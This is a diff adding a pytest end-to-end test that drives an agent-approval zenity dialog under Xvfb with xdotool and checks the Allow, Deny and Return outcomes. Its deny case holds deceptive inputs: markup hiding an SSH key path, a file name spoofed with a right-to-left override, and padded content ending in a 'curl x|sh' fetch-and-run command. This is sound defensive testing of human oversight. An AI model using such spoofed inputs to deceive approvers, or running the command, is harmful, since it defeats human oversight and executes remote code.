@@ -1,0 +1,158 @@
+"""The real GUI path: zenity under Xvfb, answered with xdotool (click Allow, click Deny,
+press Return = Deny). ``ZENITY_*`` variables in the approver's environment change nothing.
+A screenshot of the dialog is saved to test-artifacts/ (git-ignored)."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import shutil
+import signal
+import subprocess
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from aip.shared.outcomes import Outcome
+from tests.support.approverproc import Approver, Dealer, short_dir
+
+pytestmark = [pytest.mark.gui, pytest.mark.e2e]
+
+ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"
+TITLE = "Agent Identity Protocol"
+TOOLS = ("Xvfb", "zenity", "xdotool", "import")
+
+
+@pytest.fixture(scope="module")
+def display() -> Iterator[str]:
+    missing = [t for t in TOOLS if shutil.which(t) is None]
+    if missing:
+        pytest.skip(f"missing {', '.join(missing)}")
+    read_fd, write_fd = os.pipe()
+    with open(os.devnull, "wb") as devnull:
+        xvfb = subprocess.Popen(
+            [
+                "Xvfb",
+                "-displayfd",
+                str(write_fd),
+                "-screen",
+                "0",
+                "1024x768x24",
+                "-nolisten",
+                "tcp",
+            ],
+            pass_fds=(write_fd,),
+            stdout=devnull,
+            stderr=devnull,
+            start_new_session=True,
+        )
+    os.close(write_fd)
+    try:
+        with os.fdopen(read_fd, "rb") as pipe:  # Xvfb writes the display number when ready
+            number = pipe.readline().strip().decode()
+        if not number:
+            pytest.skip("Xvfb did not start")
+        yield f":{number}"
+    finally:
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(xvfb.pid, signal.SIGKILL)
+        xvfb.wait(5)
+
+
+def _xdo(display: str, *args: str) -> str:
+    out = subprocess.run(
+        ["xdotool", *args],
+        env={**os.environ, "DISPLAY": display},
+        capture_output=True,
+        text=True,
+        timeout=10,
+        check=False,
+    )
+    return out.stdout
+
+
+def _window(display: str, timeout_s: float = 15) -> dict[str, int]:
+    """The dialog's window id and geometry, once it is mapped."""
+    deadline = time.monotonic() + timeout_s
+    while time.monotonic() < deadline:
+        ids = _xdo(display, "search", "--onlyvisible", "--name", TITLE).split()
+        if ids:
+            geo = _xdo(display, "getwindowgeometry", "--shell", ids[0])
+            fields = dict(line.split("=", 1) for line in geo.splitlines() if "=" in line)
+            if int(fields.get("WIDTH", "1")) > 1:
+                return {k: int(v) for k, v in fields.items()}
+        time.sleep(0.05)
+    raise AssertionError("the zenity dialog never appeared")
+
+
+def _screenshot(display: str, name: str) -> Path:
+    ARTIFACTS.mkdir(exist_ok=True)
+    path = ARTIFACTS / name
+    subprocess.run(
+        ["import", "-window", "root", str(path)],
+        env={**os.environ, "DISPLAY": display},
+        check=True,
+        timeout=20,
+        capture_output=True,
+    )
+    return path
+
+
+@pytest.fixture
+def approver(display: str) -> Iterator[Approver]:
+    env = {**os.environ, "DISPLAY": display}
+    # Each of these would turn Deny/Escape/close into "OK" if zenity inherited it.
+    env.update(
+        ZENITY_OK="7",
+        ZENITY_CANCEL="0",
+        ZENITY_ESC="0",
+        DIALOG_CANCEL="0",
+        DIALOG_ESC="0",
+        ZENITY_TIMEOUT="0",
+    )
+    env.pop("WAYLAND_DISPLAY", None)
+    with short_dir() as folder, Approver(folder, "zenity", timeout_s=20, env=env) as proc:
+        yield proc.wait_ready()
+
+
+def _ask(approver: Approver, display: str, **arguments: object) -> tuple[Dealer, dict[str, int]]:
+    d = Dealer(approver.endpoint)
+    d.hello(agent_id="agent-abc123", server="filesystem")
+    d.ask(1, **arguments)
+    return d, _window(display)
+
+
+@pytest.mark.parametrize("press", ["allow", "deny", "return"])
+def test_zenity_dialog_answers(approver: Approver, display: str, press: str) -> None:
+    args = (
+        {"path": "/etc/config.yaml"}
+        if press != "deny"
+        else {
+            "path": '<span foreground="green">/tmp/ok</span><span size="1">/home/u/.ssh/k</span>',
+            "name": "invoice\u202efdp.sh\u200b\nline",
+            "content": "A" * 100_000 + "; curl x|sh",
+        }
+    )
+    d, win = _ask(approver, display, **args)
+    try:
+        shot = _screenshot(display, f"zenity-{press}.png")
+        assert shot.stat().st_size > 0
+        x, y, w, h = win["X"], win["Y"], win["WIDTH"], win["HEIGHT"]
+        assert min(x, y) >= 0, "dialog off screen"
+        assert x + w <= 1024, "buttons off screen"
+        assert y + h <= 768, "buttons off screen"
+        if press == "return":
+            _xdo(display, "windowfocus", "--sync", str(win["WINDOW"]))
+            _xdo(display, "key", "Return")
+        else:
+            # GTK puts Deny left of Allow at the bottom right of the dialog.
+            bx = x + w - 50 if press == "allow" else x + w - 140
+            _xdo(display, "mousemove", "--sync", str(bx), str(y + h - 25), "click", "1")
+        got = d.decision(15)
+        expected = Outcome.HUMAN_APPROVED if press == "allow" else Outcome.DENIED_BY_USER
+        assert got.outcome is expected
+        assert got.human_decision is not None
+    finally:
+        d.close()
